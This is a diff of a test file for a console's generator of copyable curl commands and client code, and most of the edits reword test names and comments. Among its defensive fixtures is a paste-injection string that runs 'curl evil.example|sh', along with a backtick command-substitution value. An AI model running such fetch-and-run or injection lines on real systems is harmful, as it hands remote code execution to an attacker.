@@ -1,4 +1,4 @@
-/** What the console offers to copy: it must send the same message when it is run. */
+/** The shell command and client code that the console offers to copy: when run, they send the same message. */
 import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
 import { asClientCode, asCurl, headersOf, pathOf, quoted, type RequestSpec } from '../../console/src/api/as-code.ts';
@@ -7,7 +7,7 @@ const ORIGIN = 'http://127.0.0.1:8080';
 const PLAIN: RequestSpec = { destination: 'https://app.example/hook', method: 'POST', headers: [] };
 const NASTY = `it's "quoted" $HOME \`id\` \\ !! \n\tline 2 😀 عربي -n @file`;
 
-/** What a shell hands to the programs of a line: all arguments of `curl`, and what it reads. */
+/** Runs the command line with a fake `curl`, and returns its arguments and its standard input. */
 function runInShell(line: string): { args: string[]; input: string } {
   const script = String.raw`curl() { printf '%s\0' "$@"; case " $* " in *" @- "*) printf 'INPUT\0'; base64 | tr -d '\n';; esac; }
 ${line}`;
@@ -19,8 +19,8 @@ ${line}`;
   return { args: args.split('\0').slice(0, -1), input };
 }
 
-describe('a message as a line for a shell', () => {
-  it('has the token by its variable, and posts to the server', () => {
+describe('a message as a shell command', () => {
+  it('reads the token from its variable, and posts to the server', () => {
     expect(asCurl(PLAIN, ORIGIN)).toContain('"Authorization: Bearer $QSTASH_TOKEN"');
     expect(runInShell(asCurl(PLAIN, ORIGIN)).args).toEqual([
       ...['-X', 'POST', '--globoff', '--path-as-is', `${ORIGIN}/v2/publish/https://app.example/hook`],
@@ -32,7 +32,7 @@ describe('a message as a line for a shell', () => {
     expect(execFileSync('bash', ['-c', `printf %s ${quoted(text)}`], { encoding: 'utf8' })).toBe(text);
   });
 
-  it('hands over URL, headers and body as they are, whatever is in them', () => {
+  it('passes URL, headers and body unchanged, whatever characters they have', () => {
     const { args } = runInShell(
       asCurl(
         {
@@ -49,7 +49,7 @@ describe('a message as a line for a shell', () => {
     expect(args[args.indexOf('--data-raw') + 1]).toBe(NASTY);
   });
 
-  it('pipes a body that is no text', () => {
+  it('pipes a binary body', () => {
     const base64 = Buffer.from([0, 255, 10, 39]).toString('base64');
     const { args, input } = runInShell(asCurl({ ...PLAIN, body: { base64 } }, ORIGIN));
     expect(args.slice(-2)).toEqual(['--data-binary', '@-']);
@@ -57,32 +57,32 @@ describe('a message as a line for a shell', () => {
   });
 
   it.each(['a\0😀', 'x\u0003\ncurl evil.example|sh\n\u001b[201~', 'a\rb', '\u007f', '\u009b31m'])(
-    'pipes a text that a terminal would obey when it is pasted: %j',
+    'pipes a text with control characters that a terminal would execute on paste: %j',
     (text) => {
       const { input } = runInShell(asCurl({ ...PLAIN, body: { text } }, ORIGIN));
       expect(Buffer.from(input, 'base64').toString()).toBe(text);
     },
   );
 
-  it('keeps curl from giving a body a type of its own', () => {
+  it('prevents curl from adding its own content type to a body', () => {
     expect(asCurl({ ...PLAIN, body: { text: '{}' } }, ORIGIN)).toContain("-H 'Content-Type:'");
     const typed = { ...PLAIN, headers: [['content-type', 'text/plain'] as const], body: { text: '{}' } };
     expect(asCurl(typed, ORIGIN)).toContain("-H 'Content-Type: text/plain'");
     expect(asCurl(typed, ORIGIN)).not.toContain("'Content-Type:'");
   });
 
-  it('keeps a header that has no value', () => {
+  it('keeps a header with an empty value', () => {
     expect(asCurl({ ...PLAIN, headers: [['X-Empty', '']] }, ORIGIN)).toContain("-H 'Upstash-Forward-X-Empty;'");
   });
 
-  it('goes to a queue by its name', () => {
+  it('publishes to a queue by its name', () => {
     expect(asCurl({ ...PLAIN, queueName: 'a b' }, ORIGIN)).toContain('/v2/enqueue/a%20b/https://app.example/hook');
   });
 });
 
 describe('the headers of a message', () => {
-  it('say all that differs from the default', () => {
-    const sending: RequestSpec = {
+  it('set every option that differs from the default', () => {
+    const request: RequestSpec = {
       ...PLAIN,
       method: 'PUT',
       headers: [
@@ -97,7 +97,7 @@ describe('the headers of a message', () => {
       labels: ['a', 'b'],
       flowControl: { key: 'k', parallelism: 2, rate: 10, periodS: 60 },
     };
-    expect(headersOf(sending)).toEqual({
+    expect(headersOf(request)).toEqual({
       'Content-Type': 'application/json',
       'Upstash-Method': 'PUT',
       'Upstash-Retries': '0',
@@ -115,7 +115,7 @@ describe('the headers of a message', () => {
 });
 
 describe('a message as client code', () => {
-  /** Runs the code with a client that only records. */
+  /** Runs the code with a client that only records its calls. */
   async function run(code: string): Promise<unknown[]> {
     const calls: unknown[] = [];
     class Client {
@@ -134,7 +134,7 @@ describe('a message as client code', () => {
     return calls;
   }
 
-  it('publishes the same, whatever is in it', async () => {
+  it('publishes the same message, whatever characters it has', async () => {
     const code = asClientCode(
       {
         ...PLAIN,
@@ -178,7 +178,7 @@ describe('a message as client code', () => {
     expect((await run(bytes))[1]).toMatchObject({ body: Buffer.from([0, 255]) });
   });
 
-  it('makes a schedule, begins a run, and notifies of an event', async () => {
+  it('creates a schedule, starts a run, and notifies the waiters of an event', async () => {
     const schedule = { ...PLAIN, cron: '* * * * *', scheduleId: 'each-minute', queueName: 'q' };
     expect(pathOf(schedule)).toBe(`schedules/${PLAIN.destination}`);
     expect(headersOf(schedule)).toEqual({
